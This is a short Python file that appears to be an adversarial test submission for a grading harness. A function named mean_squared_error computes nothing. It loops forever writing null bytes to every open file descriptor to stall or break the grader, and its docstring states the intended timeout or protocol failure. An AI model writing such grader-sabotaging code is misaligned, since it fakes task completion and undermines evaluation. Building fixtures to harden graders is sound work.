"""Send a reply a byte at a time, to keep the grader waiting.

worth: nothing
reply: timeout | protocol
"""
import os
import time


def mean_squared_error(x, x_hat):
    while True:
        for name in os.listdir("/proc/self/fd"):
            try:
                if int(name) > 2:
                    os.write(int(name), b"\0")
            except OSError:
                continue
        time.sleep(0.5)
